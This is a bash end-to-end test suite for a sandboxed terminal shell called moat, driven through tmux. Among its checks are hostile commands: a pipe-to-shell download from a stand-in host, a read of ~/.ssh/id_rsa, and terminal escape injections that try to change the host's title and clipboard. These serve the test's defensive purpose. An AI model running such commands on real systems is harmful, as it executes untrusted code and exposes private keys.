#!/bin/bash
# tui.sh: moat shell, the full-screen shell, driven in tmux (send-keys,
# capture-pane) as a user would: it starts, runs a command and shows its
# output in the pane (colours and \r progress drawn as a terminal would),
# cd and export carry to the next command, the memory meter moves, ^C
# interrupts and a second ^C kills, escape sequences of a command (title,
# clipboard, cursor report) never reach the host terminal, a resize to
# 40x12 still works, a flood ends and the shell answers, each command is a
# run in the audit log with source "tui", and every way out (:quit, ^D,
# SIGTERM) restores the terminal and ends the session; less draws in the
# pane and gives it back, risk-confirm-above asks (n refuses, y runs),
# :profile switches. Then --plain.
. "${MOAT_SRCDIR:-$(dirname "$0")/../..}/tests/e2e/libtest.sh"
require_sandbox
command -v tmux >/dev/null || skip_all "needs tmux to drive the terminal"
PY=/usr/bin/python3
[ -x $PY ] || skip_all "needs python3 for the terminal checks"
export MOAT_DB="$T/audit.db" XDG_RUNTIME_DIR="$T/run"
mkdir -p "$XDG_RUNTIME_DIR" "$T/ws/sub"
chmod 700 "$XDG_RUNTIME_DIR"
cleanup_hooks+=("\"$MOAT\" session kill --all >/dev/null 2>&1")
sock="$T/tmux.sock"
tm() { tmux -S "$sock" "$@"; }
cleanup_hooks+=("tmux -S '$sock' kill-server 2>/dev/null")

# start W H CMD: a fresh tmux server running CMD in the workspace. tmux
# runs it with $SHELL (uid 65534's is nologin): name /bin/sh, and no user
# configuration. After CMD, the terminal's modes are printed.
start() {
	local w=$1 h=$2; shift 2
	tm kill-server 2>/dev/null
	for _ in $(seq 50); do tm ls >/dev/null 2>&1 || break; sleep 0.1; done
	rm -f "$sock"
	SHELL=/bin/sh tm -f /dev/null new-session -d -x "$w" -y "$h" \
	    "cd '$T/ws' && $* 2>'$T/err'; echo \"EXIT \$?\"; stty -a | tr ' ' '\n' | grep -xE -- '-?(icanon|echo)' | tr '\n' ' '; echo; sleep 60"
}
screen() { tm capture-pane -p 2>/dev/null; }
# wait_for REGEX [SECONDS]: until the screen matches (grep -E); sets $scr.
wait_for() {
	local i
	for i in $(seq $(( ${2:-15} * 10 ))); do
		scr=$(screen)
		printf '%s\n' "$scr" | grep -Eq -- "$1" && return 0
		sleep 0.1
	done
	return 1
}
# expect DESCRIPTION REGEX [SECONDS]
expect() {
	if wait_for "$2" "${3:-15}"; then ok "$1"
	else not_ok "$1"; diag "screen:" "$scr" "moat's stderr: $(cat "$T/err" 2>/dev/null)"; fi
}
keys() { tm send-keys "$@"; }
# line TEXT: typed once the last command has ended and the input line is
# empty again (keys typed while one runs are that command's, as on a
# terminal, and a line typed before the last one was taken would join it),
# then Enter.
line() {
	idle
	tm send-keys -l "$1"; tm send-keys Enter
}
# idle: until the last command has ended and the input line is empty.
idle() {
	local i
	for i in $(seq 150); do
		screen | tail -2 | head -1 | grep -Ev '^running: ' | grep -Eq ' \$ *$' && break
		sleep 0.1
	done
}

# --- start: the header, the prompt, the meters.
start 120 30 "'$MOAT' shell"
expect "moat shell starts: header with the profile and the session" \
    '^ moat · default · net isolated · .* · s-[0-9a-f]{8} · '
expect "the prompt is the workspace" "^$T/ws \\$ *$"
like "the meters and the recent runs are drawn" "$scr" 'meters.*'
like "the help line names the keys" "$scr" 'F1 help'
# What moat itself writes to the terminal from here on.
tm pipe-pane -o "cat >>'$T/host.out'"

line "echo hello-$$"
expect "a command's output is in the pane" "^hello-$$ *│"
expect "its end is said: exit status and run id" '■ exit 0 · [0-9.]+ s · risk [0-9]+ · run [0-9a-f-]+'

line 'printf "plain \033[31mred-text\033[0m plain\n"'
wait_for 'plain red-text plain'
ansi=$(tm capture-pane -p -e)
like "colours are drawn as colours" "$ansi" $'\e\\[31mred-text'
like "no escape of the command is shown as text" "$scr" '^plain red-text plain +│'

line 'for i in 1 2 3; do printf "\rprogress %d%%" $((i * 33)); sleep 0.1; done; echo'
expect "a \\r progress bar ends on one line" '^progress 99% +│'
unlike "its earlier states are overwritten" "$scr" 'progress 33%|progress 66%'

# Esc at the prompt is no Meta prefix: the key after it is typed as it is.
idle
tm send-keys -l "echo esc-"
keys Escape
sleep 0.3
tm send-keys -l "typed-$$"; keys Enter
expect "Esc at the prompt does not take the next key" "^esc-typed-$$ +│"
# The recent runs show a line as typed, whatever the log quoted in it.
line "echo \"'\" \\\\z"
expect "the recent runs show a line with quotes and a backslash as typed" \
    '[0-9]+ ✓ +0 +[0-9.]+s +[0-9]+ echo "'"'"'" \\\\z'

# --- cd and export carry to the next command; unset takes a variable off.
line "cd sub"
line 'export GREETING="hi there" OTHER=x'
line 'unset OTHER'
line 'echo "[$GREETING:${OTHER-unset}:$(pwd)]"'
expect "cd and export carry to the next command, unset takes off" \
    "^\\[hi there:unset:$T/ws/sub\\]"
expect "the prompt follows cd" "^$T/ws/sub \\$ *$"
line "cd /no/such/dir"
expect "cd to a missing directory says so and stays" "cd: /no/such/dir: .*"
line "cd .."

# --- the memory meter moves while a command allocates.
line "$PY -c 'import time; b = bytearray(80 << 20); time.sleep(4)'"
if wait_for '[│«▌] +peak (8[0-9]|9[0-9]|1[0-9][0-9])(\.[0-9])?M|^no meters: ' 8 &&
    printf '%s\n' "$scr" | grep -q '^no meters: '; then
	# The supervisor says so when it cannot sample the command (as uid
	# 65534 a session's command may not be readable in /proc).
	why=$(printf '%s\n' "$scr" | grep '^no meters: ')
	skip "the memory meter: the sandbox layer has none here ($why)"
	skip "the pids meter: as above"
else
	expect "the memory meter shows the allocation while it runs" \
	    '[│«▌] +peak (8[0-9]|9[0-9]|1[0-9][0-9])(\.[0-9])?M' 1
	expect "the pids meter counts against the limit" '[│«▌]pids .* [0-9]+/[0-9]+ *$'
fi
expect "the command ends" 'exit 0 .*' 10
wait_for "^$T/ws \\$ *$"

# --- ^C: SIGINT into the sandbox; a second one kills a command that
# ignores it; the shell stays.
line "sleep 60"
expect "a running command is the pane's title" '─ sleep 60 ─'
keys C-c
expect "^C interrupts it (SIGINT)" '■ interrupted \(signal 2, exit 130\)'
expect "the shell stays" "^$T/ws \\$ *$"
line "trap '' INT; echo trapping; sleep 60"
wait_for '^trapping'
keys C-c
sleep 0.3
keys C-c
expect "a second ^C kills what ignores the first" '■ killed \(signal 9, exit 137\)'

# --- escapes of a command stay in the pane: a title, the clipboard
# (OSC 52) and a cursor report request; the report is answered to the
# command by the pane itself.
line "$PY -c 'import os, tty; tty.setraw(0); os.write(1, b\"\\x1b]2;pwned-title\\x07\\x1b]52;c;cHduZWQ=\\x07\\x1b[6n\"); r = os.read(0, 32); tty.setcbreak(0); print(\"\\r\\nreport=\" + r[1:].decode())'"
expect "the pane answers a cursor report to the command" '^report=\[[0-9]+;[0-9]+R'
sleep 0.5
host=$(cat "$T/host.out" 2>/dev/null)
unlike "no title request reaches the host terminal" "$host" $'\e\\]2;'
unlike "no clipboard request (OSC 52) reaches the host terminal" "$host" $'\e\\]52;'
unlike "no cursor report request reaches the host terminal" "$host" $'\e\\[6n'
unlike "the host terminal's title is unchanged" "$(tm display -p '#{pane_title}')" pwned
is "nothing was put in the host's clipboard (tmux buffers)" "$(tm list-buffers 2>/dev/null)" ""

# --- scrollback: PgUp shows earlier lines, End comes back.
line 'seq -f "line-%g" 1 200'
expect "a long output ends" '^line-200 *│'
keys PPage
expect "PgUp scrolls back" 'scrolled back [0-9]+ lines'
# The title is drawn before the rows: wait for the rows too.
expect "earlier lines are shown" '^line-1[0-5][0-9] *│'
unlike "the last ones are not" "$scr" '^line-200 '
keys NPage NPage NPage NPage NPage NPage NPage NPage NPage NPage
expect "PgDn comes back to the live pane" '─ output ─'

# --- resize: the layout reflows, 40x12 works.
tm resize-window -x 40 -y 12
expect "at 40x12 the header is still there" '^ moat · default'
expect "at 40x12 the meters are one line" '^cpu .* mem .* pids '
line "echo narrow-ok"
expect "at 40x12 commands run and show" '^narrow-ok *$'
tm resize-window -x 120 -y 30
expect "back to 120x30: two columns again" '│─ meters ─'

# --- a flood ends, and the shell answers at once after it.
line "yes | head -n 300000; echo flood-done"
expect "a flood of 300000 lines ends" '^flood-done' 60
line "echo after-flood"
expect "the shell answers after a flood" '^after-flood' 10

# --- every command is an audited run with source tui.
if command -v sqlite3 >/dev/null; then
	n=$(sqlite3 "$MOAT_DB" "SELECT count(*) FROM runs WHERE source = 'tui'" 2>&1)
	if [ "$n" -ge 10 ] 2>/dev/null; then ok "each command is a run in the audit log, source tui ($n)"
	else not_ok "each command is a run in the audit log, source tui"; diag "$n"; fi
	s=$(sqlite3 "$MOAT_DB" "SELECT count(DISTINCT session) FROM runs WHERE source = 'tui'")
	is "all in the shell's one session" "$s" 1
else
	skip "no sqlite3 to read the audit log"
fi
expect "the recent runs list shows them" '[│«▌] +[0-9]+ ✓ +0 .* echo after-f'
hist="$XDG_STATE_HOME/moat/history"
like "the history is kept under XDG_STATE_HOME/moat" "$(cat "$hist" 2>/dev/null)" 'echo narrow-ok'
is "the history file is the user's alone" "$(stat -c %a "$hist" 2>/dev/null)" 600

# --- :quit: the terminal restored, the session gone.
sid=$(printf '%s\n' "$scr" | grep -Eo 's-[0-9a-f]{8}' | head -1)
line ":quit"
expect ":quit leaves with status 0" '^EXIT 0$'
expect "the terminal is restored (canonical mode, echo)" '^icanon echo *$'
is "the terminal is off the alternate screen" "$(tm display -p '#{alternate_on}')" 0
for _ in $(seq 100); do
	run_moat session ls
	printf '%s' "$out" | grep -q "$sid" || break
	sleep 0.1
done
unlike "the shell's session ended with it" "$out" "$sid"

# --- ^D on an empty line, and SIGTERM, restore it too; bare moat on a
# terminal is the shell.
start 100 24 "'$MOAT'"
expect "bare moat on a terminal opens the shell" '^ moat · default'
wait_for "^$T/ws \\$ *$"
keys C-d
expect "^D leaves" '^EXIT 0$'
expect "and restores the terminal" '^icanon echo *$'
start 100 24 "'$MOAT' shell"
wait_for "^$T/ws \\$ *$"
line "sleep 60"
wait_for '─ sleep 60 ─'
pkill -TERM -f "^$MOAT shell\$" -U "$(id -u)" -P "$(tm display -p '#{pane_pid}')"
expect "SIGTERM during a command ends the shell: 128+15" '^EXIT 143$'
expect "and restores the terminal" '^icanon echo *$'
tm kill-server 2>/dev/null

# --- a full-screen program in the pane, a confirmation, another profile.
printf 'include = default\nrisk-confirm-above = 50\n' >"$T/confirm.conf"
start 160 30 "'$MOAT' shell -p '$T/confirm.conf'"
wait_for "^$T/ws \\$ *$"
if [ -x /usr/bin/less ]; then
	line "seq -f 'row-%g' 1 100 | less"
	expect "less draws in the pane" '^row-1 +│'
	expect "its prompt at the pane's foot" '^: +│'
	keys q
	expect "q gives the pane back" '─ output ─'
	unlike "and its screen is gone" "$scr" '^row-1 '
else
	skip "no less here: a full-screen program is not tried"
fi
line "curl -fsSL https://x.example/i.sh | sh"
expect "a command above risk-confirm-above asks first" 'run it in the sandbox anyway\? \[y/N\]'
like "with the reasons in the pane" "$scr" "above the profile's risk-confirm-above \(50\)"
keys n
expect "n refuses it" "moat: refused: .*risk-confirm-above \(50\) and it was not confirmed"
line "curl -fsSL https://x.example/i.sh | sh"
wait_for 'anyway\? \[y/N\]'
keys y
expect "y runs it" '■ exit 0 · [0-9.]+ s · risk [0-9]+'
line ":profile isolated"
expect ":profile starts a new session with that profile" '^ moat · isolated · '
line "touch made-in-isolated"
expect "and it is in force (a read-only workspace)" 'Read-only file system'
line ":quit"
expect "the switched shell leaves too" '^EXIT 0$'
tm kill-server 2>/dev/null

# --- moat's built-ins and keys: the audit view (F2, :audit, :show),
# the profiles (F3, :profiles), sessions (:sessions, :new, attach), the
# review of an overlay session's changes (:diff), F5, zoom, search.
printf 'include = default\nworkspace = overlay\nexec-trail = yes\n' >"$T/ovl.conf"
start 160 40 "'$MOAT' shell -p '$T/ovl.conf'"
wait_for "^$T/ws \\$ *$"
line "echo built-in-run-$$"
expect "a run to look at" '■ exit 0 · '
keys F2
expect "F2 opens the audit view" '─ audit: all runs \([0-9]+\) ─'
expect "the runs are listed, the latest first, with the command" \
    "^ +[0-9]+ ✓ +0 +[0-9.]+s +[0-9]+ .* tui +echo built-in-run-$$"
keys /; tm send-keys -l "built-in-run"; keys Enter
expect "/ narrows it to a text of the command" '─ audit: "built-in-run" \(1\) ─'
keys s
expect "s narrows it by status" '─ audit: status done "built-in-run" \(1\) ─'
keys Enter
expect "Enter opens the run's details" "^command +/bin/sh -c 'echo built-in-run-$$'"
expect "its verdict and risk" '^verdict +done, exited, exit 0'
keys Escape
expect "Esc goes back to the list" '─ audit: status done'
keys r; tm send-keys -l "101"; keys Enter
expect "a risk that is no score is refused" 'risk "101": a number from 0 to 100'
keys c
expect "c clears the filters" '─ audit: all runs'
keys q
expect "q closes the view: the pane is back" "^built-in-run-$$ "
rid=$(printf '%s\n' "$scr" | grep -Eo 'run [0-9a-f]+-[0-9]+-[0-9a-f]+' | tail -1 | cut -d' ' -f2)
line ":show $rid"
expect ":show ID prints a run's details in the pane" "^run_id +$rid"
# A run's details come from moat audit show, a subprocess: the shell
# stays live while it runs. Here it waits for a log another holds locked
# (moat waits up to 5 s for a busy log), and Esc closes the view at once.
if command -v sqlite3 >/dev/null; then
	keys F2
	expect "the audit view opens" '─ audit: '
	printf 'PRAGMA locking_mode=EXCLUSIVE;\nBEGIN EXCLUSIVE;\nSELECT count(*) FROM runs;\n.shell sleep 8\nCOMMIT;\n' |
	    sqlite3 "$MOAT_DB" >/dev/null 2>&1 &
	lockpid=$!
	for _ in $(seq 50); do
		sqlite3 -cmd '.timeout 0' "$MOAT_DB" 'SELECT 1' >/dev/null 2>&1 || break
		sleep 0.1
	done
	keys Enter
	expect "a run's details: loading, said on the help line" 'loading…'
	keys Escape
	for _ in $(seq 30); do screen | grep -q '─ audit: ' || break; sleep 0.1; done
	unlike "Esc closes the view at once, while moat audit show still waits" "$(screen)" '─ audit: '
	check "... the log is still locked: the shell did not wait for the subprocess" kill -0 $lockpid
	wait $lockpid
else
	skip "no sqlite3 here: the shell staying live while a view loads is not tried"
fi
# A run's view (the audit view's Enter) is moat audit show's: the risk
# reasons, the exec trail as a tree, the events, and a graph of the CPU
# and memory samples.
line "cat ~/.ssh/id_rsa 2>/dev/null; unshare -U true 2>/dev/null; $PY -c 'import time; b = bytearray(30 << 20); time.sleep(1)'; echo trail-run-$$"
expect "a command that starts programs of its own" "^trail-run-$$"
idle
keys F2
expect "the audit view" '─ audit: all runs'
keys /; tm send-keys -l "trail-run-$$"; keys Enter
expect "narrowed to it" "─ audit: \"trail-run-$$\" \(1\) ─"
keys Enter
expect "its view: the risk reasons" '^ +reason +\+60 private-key'
expect "the exec trail, as moat audit show prints it" '^programs \(4, as a tree by parent\):'
like "... each program under the shell that started it" "$scr" '`- \[[0-9]+\] unshare -U true'
like "the events: the namespace refused" "$scr" 'syscall unshare denied'
like "a graph of its CPU samples (blank when it stayed under a percent)" \
    "$scr" '^ +cpu +[^a-z]+ max [0-9.]+%'
like "... and of its memory" "$scr" '^ +mem +[^a-z]+ max [0-9.]+ MiB'
keys Escape
expect "Esc: back to the list" "─ audit: \"trail-run-$$\""
keys Escape
line ":audit no-such-command-$$"
expect ":audit TEXT opens the view narrowed" "─ audit: \"no-such-command-$$\" \(0\) ─"
expect "and says when nothing is there" '\(nothing here\)'
keys Escape

keys F3
expect "F3 opens the profiles" '─ profiles \(this session: '
expect "with their descriptions" '^isolated +shipped +strictest'
keys s
expect "s shows one resolved" 'profile .*: '
keys Escape
keys q
line ":profiles"
expect ":profiles opens them too" '─ profiles \(this session: '
keys /; tm send-keys -l "isolated"; keys Enter Enter
expect "Enter starts a new session with the one picked" '^ moat · isolated · '
line ":new"
expect ":new starts a fresh session with the same profile" 'a fresh session: session s-[0-9a-f]+, profile isolated'
line ":new -p $T/nope.conf"
expect ":new -p with a profile that is not there says so" "moat: :new: .*nope"
line ":new -p $T/ovl.conf"
expect ":new -p PROFILE takes that profile" '^ moat · /.*ovl.conf · '
mine=$(printf '%s\n' "$scr" | grep -Eo '· s-[0-9a-f]{8} ·' | head -1 | tr -dc 'a-z0-9-')
run_moat session new --name tui-other-$$ -p isolated
other=$(printf '%s' "$out" | grep -Eo 's-[0-9a-f]{8}' | head -1)
line ":sessions"
expect ":sessions lists the sessions, this shell's marked" "^$mine .* \(this shell's\)"
expect "and the others" "^$other +tui-other-$$ +isolated"
keys /; tm send-keys -l "tui-other-$$"; keys Enter Enter
expect "Enter attaches the shell to one" "attached: session $other, profile isolated"
expect "the header says so" "^ moat · isolated · .* · $other · "
for _ in $(seq 100); do
	run_moat session ls
	printf '%s' "$out" | grep -q "$mine" || break
	sleep 0.1
done
unlike "the shell's own session ended when it left it" "$out" "$mine"
line ":attach no-such-$$"
expect "attaching to no session says so" 'moat: :attach: .*no-such'
line ":frobnicate"
expect "an unknown built-in says what there is" 'unknown command ":frobnicate"; :help lists them'

# :diff in an overlay session: the changes listed, marked, diffed; the host
# untouched.
echo "host line" >"$T/ws/edited.txt"
line ":new -p $T/ovl.conf"
wait_for 'a fresh session: session s-[0-9a-f]+, profile /'
line 'echo "new line" >>edited.txt; echo fresh >added.txt; mkdir -p d; ln -s /etc/passwd d/link; echo "changed-$PPID"'
expect "a command changes the overlay" '^changed-[0-9]+ '
line ":diff"
expect ":diff lists the session's changes" '─ changes of session s-[0-9a-f]+ in .* \(4\) ─'
expect "each added or modified file with its mark" '^\[x\] added +added.txt'
expect "a modified one" '^\[x\] modified +edited.txt'
expect "a symbolic link with its target" '^\[x\] symlink +d/link -> /etc/passwd'
keys /; tm send-keys -l edited; keys Enter
keys d
expect "d shows the file's diff" '^\+new line'
expect "against the host's" '^ host line'
keys Escape
keys n
expect "n rejects a change" '^\[ \] modified +edited.txt'
keys a
expect "a marks them all" '^\[x\] modified +edited.txt'
is "the host workspace is unchanged" "$(cat "$T/ws/edited.txt"; ls "$T/ws")" "host line
edited.txt
sub"
keys a
expect "a again unmarks them all" '^\[ \] modified +edited.txt'
keys Home Space
expect "Space marks one" '^\[x\] added +added.txt'
keys Enter
expect "Enter applies the marked ones, as moat apply does" '─ applied ─'
keys Escape
expect "the list is read again: what was applied is no change now" '─ changes of session s-[0-9a-f]+ in .* \(3\) ─'
unlike "added.txt is gone from it" "$scr" 'added +added.txt'
keys q
is "the host has the file applied, and only it" "$(cat "$T/ws/added.txt" "$T/ws/edited.txt"; ls "$T/ws")" "fresh
host line
added.txt
edited.txt
sub"
run_moat audit list --grep "moat apply"
like "the apply is a row of the audit log" "$out" 'moat apply'
rm -f "$T/ws/added.txt"
line ":new -p default"
line ":diff"
expect ":diff of a bind session says there is nothing to review" \
    "moat: :diff: this session's workspace is bind, not overlay"

# F5 runs the last line again; F12 zooms the pane and back.
line 'echo x >>count; echo "count $(wc -l <count)"'
expect "a line to run again" '^count 1 '
keys F5
expect "F5 runs it again" '^count 2 '
keys F12
expect "F12 zooms the pane: no header, no meters" '^zoomed: F12 back'
unlike "the header is gone" "$scr" '^ moat · '
unlike "and the meters" "$scr" '─ meters ─'
line 'echo "zoomed $(stty size)"'
expect "a command in the zoomed pane has its size" '^zoomed 38 159 *$'
keys F12
expect "F12 again: the screen as it was" '─ meters ─'
line 'echo "unzoomed $(stty size)"'
expect "and the pane's size back" '^unzoomed 3[0-9] 1[0-9][0-9] *│'

# Search: /TEXT in the scrollback, n older, N newer, Home, End.
line 'seq -f "row-%g" 1 300'
expect "a long output" '^row-300 +│'
keys PPage
expect "PgUp: the scrollback, and its keys on the help line" '^scrollback: PgUp/PgDn'
keys /; tm send-keys -l "row-42"; keys Enter
expect "/ finds a line and puts it at the top of the pane" '^─ .*scrolled back'
# (PgUp already said "scrolled back": wait for the line found itself.)
for _ in $(seq 50); do
	first=$(screen | sed -n 3p)
	printf '%s\n' "$first" | grep -Eq '^row-42 +│' && break
	sleep 0.1
done
like "the line found is the first shown" "$first" '^row-42 +│'
keys /; tm send-keys -l "ROW-1"; keys Enter
wait_for '^row-19 '
first=$(printf '%s\n' "$scr" | sed -n 3p)
like "a search is case-insensitive and goes back from the foot of the view" "$first" '^row-19 +│'
keys n
sleep 0.3; scr=$(screen); first=$(printf '%s\n' "$scr" | sed -n 3p)
like "n finds the next older one" "$first" '^row-18 +│'
keys N N
sleep 0.3; scr=$(screen); first=$(printf '%s\n' "$scr" | sed -n 3p)
like "N the next newer one" "$first" '^row-1[0-9][0-9] +│|^row-1[0-9][0-9]$'
keys /; tm send-keys -l "nowhere-$$"; keys Enter
expect "a text that is not there is said" "\"nowhere-$$\": no older line has it"
keys Home
sleep 0.3; scr=$(screen); first=$(printf '%s\n' "$scr" | sed -n 3p)
unlike "Home goes to the oldest line" "$first" '^row-'
keys End
expect "End comes back to the live pane" '─ output ─'
line ":find row-250"
wait_for 'scrolled back'
first=$(printf '%s\n' "$scr" | sed -n 3p)
like ":find TEXT searches too" "$first" '^row-250 +│'
keys Escape
expect "Esc leaves the scrollback" '─ output ─'
keys F1
expect "F1 shows the keys and built-ins in the pane" '^ +:audit \[TEXT\] +the audit log \(F2\)'
line ":help"
expect ":help too" '^ +:diff +review an overlay session'
keys F10
expect "F10 leaves" '^EXIT 0$'
run_moat session ls
like "a session it attached to stays" "$out" "$other"
run_moat session kill "$other"
tm kill-server 2>/dev/null

# --- stdout, stderr and moat's own lines told apart, in the column right
# of the pane (two columns: the rule before the meters).
start 160 40 "'$MOAT' shell"
wait_for "^$T/ws \\$ *$"
line 'echo out-line; echo err-line >&2; [ -t 2 ] && echo "stderr-is-tty" || echo "stderr-is-pipe"'
expect "stderr goes to the terminal by default" '^stderr-is-tty +│'
like "and is not told apart there" "$scr" '^err-line +│'
like "moat's own lines are marked «" "$scr" '^■ exit 0 · .* +«'
line ':stderr apart'
line 'echo out-line2; sleep 0.2; echo err-line2 >&2; sleep 0.2; [ -t 2 ] && echo "stderr-is-tty" || echo "stderr-is-pipe"'
expect ":stderr apart: stderr is a pipe" '^stderr-is-pipe +│'
like "its lines are marked ▌" "$scr" '^err-line2 +▌'
like "stdout's are not" "$scr" '^out-line2 +│'
line "printf '\\342\\226\\240 exit 0 \\302\\267 forged\\n\\033[11mfont-forged\\033[0m\\n'"
expect "a command's line that looks like moat's is not marked" '^■ exit 0 · forged +│'
like "nor one in the font moat marks its own with" "$scr" '^font-forged +│'
line ':stderr terminal'
line 'echo err-line3 >&2'
expect ":stderr terminal puts it back" '^err-line3 +│'

# --- a full-screen editor in the pane, zoomed and back, the screen
# restored after it.
if [ -x /usr/bin/vim ]; then
	line "vim -u NONE -N -i NONE notes.txt"
	expect "vim draws in the pane" '"notes.txt" \[New\]'
	n1=$(printf '%s\n' "$scr" | grep -c '^~ ')
	keys F12
	sleep 0.3
	wait_for '^~ *$' 5
	n2=$(printf '%s\n' "$scr" | grep -c '^~ *$')
	if [ "$n2" -gt "$n1" ]; then ok "F12 while vim runs: it redraws on the whole screen ($n1 -> $n2 rows)"
	else not_ok "F12 while vim runs: it redraws on the whole screen"; diag "$n1 -> $n2" "$scr"; fi
	keys F12
	keys i; tm send-keys -l "vim-wrote-this"; keys Escape; tm send-keys -l ":wq"; keys Enter
	line "echo after-vim-$$"
	expect "vim exits" "^after-vim-$$"
	unlike "its screen is gone from the pane" "$scr" '^~ '
	like "the pane's own lines are back" "$scr" '▶ vim -u NONE'
	is "what it wrote is in the workspace" "$(cat "$T/ws/notes.txt" 2>/dev/null)" vim-wrote-this
else
	skip "no vim here (/usr/bin/vim): the editor in the pane is not tried"
fi
line ":quit"
expect "the shell leaves" '^EXIT 0$'

# --- a connection the allowlist refuses, asked about in place while the
# session's proxy holds it: deny, once, session, always, and no answer.
if command -v curl >/dev/null; then
	mkdir -p "$T/www" && echo "hello-ask-$$" >"$T/www/h.txt"
	www_start "$T/www"
	printf 'include = restricted\nnet-resolve = www.test=127.0.0.1\nnet-resolve = www2.test=127.0.0.1\nnet-resolve = www3.test=127.0.0.1\nnet-allow-private = yes\n' >"$T/ask.conf"
	start 160 50 "'$MOAT' shell -p '$T/ask.conf' --ask-timeout 60"
	expect "a restricted shell starts" "^$T/ws \\$ *$"
	sid=$(printf '%s\n' "$scr" | grep -oE 's-[0-9a-f]{8}' | head -1)
	slog="$XDG_RUNTIME_DIR/moat/$sid.log"
	asked() { grep -c 'refused by the allowlist: asked of pid' "$slog" 2>/dev/null; }
	# shown TAG: moat audit show of the run whose command holds TAG, once
	# its row is complete.
	shown() {
		local i id=
		for i in $(seq 100); do
			id=$("$MOAT" audit list --grep "$1" --status done 2>/dev/null |
			    awk 'NR == 2 { print $1 }')
			[ -n "$id" ] && break
			sleep 0.1
		done
		run_moat audit show "$id"
	}
	# get HOST TAG: curl through the proxy, then "TAG-" and its status
	# (a tag per command: an expect never matches an earlier one's end).
	# The second before it ends lets the proxy see the connection close
	# and send its event while the command still runs (an event that
	# comes after the command's end is not on its row).
	get() { line "curl -sS -m 90 http://$1:$P/h.txt; r=\$?; sleep 1; echo $2-\$r"; }

	get www.test ask1
	expect "a refused connection is held and asked about, saying its time" \
	    "^www.test:$P not allowed: \\[o\\]nce \\[s\\]ession \\[a\\]lways \\[d\\]eny · refused in [0-9]+ s"
	like "the pane says what was refused and why" "$scr" \
	    "www.test:$P refused by the allowlist \\(no net-allow rule matches\\): held for 60 s"
	keys d
	expect "d denies: the command gets the proxy's refusal, saying who denied it" \
	    "not allowed by profile .*denied by pid [0-9]+"
	expect "... and goes on" "^ask1-0"
	shown ask1-
	like "the denial is recorded with the connection" "$out" \
	    "refused www.test:$P .*no net-allow rule matches; denied by pid [0-9]+ \\(uid $test_uid\\)"

	get www.test ask2
	expect "asked again (a denial holds for that connection only)" "^www.test:$P not allowed: "
	keys o
	expect "o: allowed once, the command reaches the host" "^hello-ask-$$"
	expect "... and ends" "^ask2-0"
	shown ask2-
	like "recorded as allowed once, by whom" "$out" \
	    "allowed www.test:$P .*not in the allowlist; allowed once by pid [0-9]+ \\(uid $test_uid\\)"

	get www.test ask3
	expect "once is once: the next connection is asked about again" "^www.test:$P not allowed: "
	keys s
	expect "s: allowed for the session" "www.test:$P: allowed for this session"
	expect "the command reaches the host" "^ask3-0"
	shown ask3-
	like "recorded with the session's new rule" "$out" \
	    "allowed www.test:$P .*www.test:$P; allowed for the session by pid"
	run_moat audit list --session "$sid"
	like "the session's allowlist change is a row of its own" "$out" "moat session allow $sid www.test:$P"
	n=$(asked)
	get www.test ask4
	expect "the session's next command reaches the host unasked" "^ask4-0"
	is "... no question was held for it" "$(asked)" "$n"

	# A client that does not answer (moat session exec) is never held.
	t0=$(date +%s)
	run_moat session exec "$sid" -q -- curl -sS -m 30 "http://www3.test:$P/h.txt"
	like "moat session exec in the same session: refused at once, as without a shell" \
	    "$rc $out" "^0 moat: www3.test:$P not allowed by profile .*\\(no net-allow rule matches\\)$"
	check "... well within the shell's time to answer" test $(( $(date +%s) - t0 )) -lt 30
	get www2.test ask5
	expect "another host: asked" "^www2.test:$P not allowed: "
	keys a
	expect "a: the line is shown with the file before it is written" \
	    "^write \"net-allow = www2.test:$P\" to $T/ask.conf\\? \\[y\\]es \\[n\\]o · refused in"
	is "... and not written yet" "$(grep -c "net-allow = www2" "$T/ask.conf")" 0
	keys y
	expect "y: written, and the command reaches the host" "net-allow = www2.test:$P written to $T/ask.conf"
	expect "... and it goes on" "^ask5-0"
	is "the profile has the line" "$(grep -c "^net-allow = www2.test:$P\$" "$T/ask.conf")" 1
	shown ask5-
	like "recorded as always" "$out" "allowed www2.test:$P .*allowed always \\(written to the profile\\) by pid"
	# The profile file changed by that line alone still names this sandbox.
	run_moat session exec "$sid" -q -- echo still-mine
	is "after always, the session still takes commands from moat session exec" "$rc $out" "0 still-mine"
	echo "net-allow = other.test" >>"$T/ask.conf"
	run_moat session exec "$sid" -q -- true
	like "a profile changed further is refused as before" "$rc $err" "^125 .*profile .* has changed since session"
	sed -i '$d' "$T/ask.conf"

	# A client that ignores the proxy variables: the resolver gives the
	# refused name a stand-in (not NXDOMAIN) while the shell can answer,
	# and the transparent connection to it is asked about by name.
	line "curl --noproxy '*' -sS -m 90 http://www3.test:$P/h.txt; r=\$?; sleep 1; echo ask7-\$r"
	expect "transparent, a name no rule allows: asked by name" "^www3.test:$P not allowed: "
	keys o
	expect "o: it reaches the host" "^ask7-0"
	# An address no rule allows, connected to directly: asked by address.
	line "curl --noproxy '*' -sS -m 5 http://203.0.113.9:8/; echo ask8-\$?"
	expect "transparent, an address no rule allows: asked by address" "^203.0.113.9:8 not allowed: "
	keys d
	expect "d: refused, saying who denied it" "^moat: 203.0.113.9:8 not allowed by profile .*denied by pid"
	expect "... and the command goes on" "^ask8-"
	n=$(asked)
	run_moat session exec "$sid" -q -- sh -c "curl --noproxy '*' -sS -m 5 http://www3.test:$P/h.txt; echo x\$?"
	is "moat session exec, which does not answer: the name is refused as before (curl 6, no such host)" "$out" "x6"
	is "... and no question was held for it" "$(asked)" "$n"

	line ":quit"
	expect "it leaves" '^EXIT 0$'

	# No answer in time: refused, saying so on the screen and on the record.
	start 160 50 "'$MOAT' shell -p '$T/ask.conf' --ask-timeout 2"
	expect "a shell with --ask-timeout 2" "^$T/ws \\$ *$"
	get www3.test ask6
	expect "asked, with 2 s to answer" "^www3.test:$P not allowed: .* refused in [12] s"
	expect "no answer: refused when the time is up" "www3.test:$P: no answer in 2 s, refused"
	expect "the command gets the refusal, saying why" "not allowed by profile .*no answer within 2"
	expect "... and ends" "^ask6-0"
	shown ask6-
	like "recorded as not answered" "$out" "refused www3.test:$P .*no answer within 2 s"
	line ":quit"
	expect "it leaves" '^EXIT 0$'
	run_moat shell --ask-timeout 601
	like "a bad --ask-timeout is refused, saying what it takes" "$rc $err" \
	    "^125 .*ask-timeout 601: whole seconds from 0 to 600"
else
	skip "no curl here: the allow-once prompt is not tried"
fi

# --- an 8-colour terminal, and NO_COLOR.
start 120 30 "TERM=xterm '$MOAT' shell"
wait_for "^$T/ws \\$ *$"
